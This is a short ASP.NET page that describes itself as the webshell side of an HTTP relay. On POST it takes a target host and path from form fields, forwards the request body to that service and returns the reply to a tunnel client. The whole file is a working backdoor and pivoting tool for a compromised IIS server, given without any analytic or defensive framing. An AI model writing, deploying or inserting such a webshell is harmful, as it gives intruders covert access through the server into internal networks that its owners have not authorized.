<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Net" %>
<script runat="server">
    // webshell side of an HTTP relay: the raw body goes on to the service the form names and the
    // reply is written back to the tunnel client
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.HttpMethod != "POST") { Response.Write("ready"); return; }
        string target = Request.Form["peer"] + Request.Form["route"];
        byte[] body = new byte[Request.ContentLength];
        Request.InputStream.Read(body, 0, body.Length);
        HttpWebRequest onward = (HttpWebRequest)WebRequest.Create(target);
        onward.Method = "POST";
        using (Stream s = onward.GetRequestStream()) { s.Write(body, 0, body.Length); }
        using (WebResponse reply = onward.GetResponse())
        using (StreamReader r = new StreamReader(reply.GetResponseStream()))
        {
            Response.Write(r.ReadToEnd());
        }
    }
</script>
